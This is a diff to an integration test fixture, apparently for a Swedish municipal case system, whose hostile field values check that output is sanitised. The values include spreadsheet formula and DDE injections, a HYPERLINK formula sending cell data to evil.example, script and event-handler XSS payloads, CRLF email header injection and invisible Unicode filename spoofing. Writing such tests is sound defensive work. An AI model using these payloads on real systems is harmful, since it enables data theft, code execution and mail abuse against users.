@@ -27,18 +27,22 @@ const kim = { name: '', email: `kim.injektion.${RUN}@kommun.example.se` };
 const chef = { name: '', email: `chef.injektion.${RUN}@kommun.example.se` };
 const clerk = `registrator.injektion.${RUN}@kommun.example.se`;
 
-/** One hostile value per field, within its length bound, each starting with a spreadsheet formula. */
+/**
+ * One hostile value per field, within its length bound, each starting with a spreadsheet formula.
+ * Bidi overrides and isolates are refused at the door (test/integration/input-rules.test.ts); the
+ * invisible marks that remain storable (U+200F, U+200B) must be cleaned on the way out.
+ */
 const H = {
-  title: `=HYPERLINK("http://evil.example/?d="&A1;"Klicka")<script>alert('title')</script>\u202Eexe.gnp\u200B`,
+  title: `=HYPERLINK("http://evil.example/?d="&A1;"Klicka")<script>alert('title')</script>\u200Fexe.gnp\u200B`,
   caseNumber: `+cmd|' /C calc'!A0"><img src=x onerror=alert(1)>`,
-  paragraph: `-1+1<b>§ 9</b>\u202E`,
+  paragraph: `-1+1<b>§ 9</b>\u200F`,
   name: `@SUM(1+1)*cmd|' /C calc'!A0 "><svg onload=alert('name')>\u200B`,
-  manager: `=1+2 <script>alert('manager')</script>\u202Efdp.exe`,
-  unit: `@Enhet <i>${RUN}</i> \u202E\u200B"><img src=x>`,
+  manager: `=1+2 <script>alert('manager')</script>\u200Ffdp.exe`,
+  unit: `@Enhet <i>${RUN}</i> \u200F\u200B"><img src=x>`,
   recipient: `-2+3+cmd|' /C calc'!A0 <script>alert('recipient')</script>`,
-  description: `\t=cmd|' /C calc'!A0\r\nBcc: evil@example.com\r\n\r\n<script>alert('description')</script>\u202E`,
+  description: `\t=cmd|' /C calc'!A0\r\nBcc: evil@example.com\r\n\r\n<script>alert('description')</script>\u200F`,
   reason: `\r=1+1\r\nBcc: evil@example.com\r\nSubject: fake\r\n<img src=x onerror=alert('reason')>\u200B`,
-  note: `@SUM(1+1)\r\nTo: evil@example.com <script>alert('note')</script>\u202E`,
+  note: `@SUM(1+1)\r\nTo: evil@example.com <script>alert('note')</script>\u200F`,
   extension: `+1\r\nCc: evil@example.com <svg onload=alert('extension')>`,
 };
 kim.name = H.name;
